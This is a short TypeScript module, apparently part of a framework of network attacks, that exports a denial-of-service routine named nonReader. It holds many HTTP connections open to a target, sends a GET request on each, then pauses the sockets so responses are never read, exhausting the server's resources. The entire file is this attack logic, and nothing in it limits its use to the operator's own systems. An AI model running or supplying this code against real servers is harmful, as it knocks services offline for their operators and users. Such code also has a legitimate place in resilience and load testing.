/** Answers that nobody takes: connections that ask for much and read nothing. */
import type { Attack } from './attack.ts'

export const nonReader: Attack = (target, swarm, { connections, path }) => {
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`)
    })
    return socket.pause()
  })
}
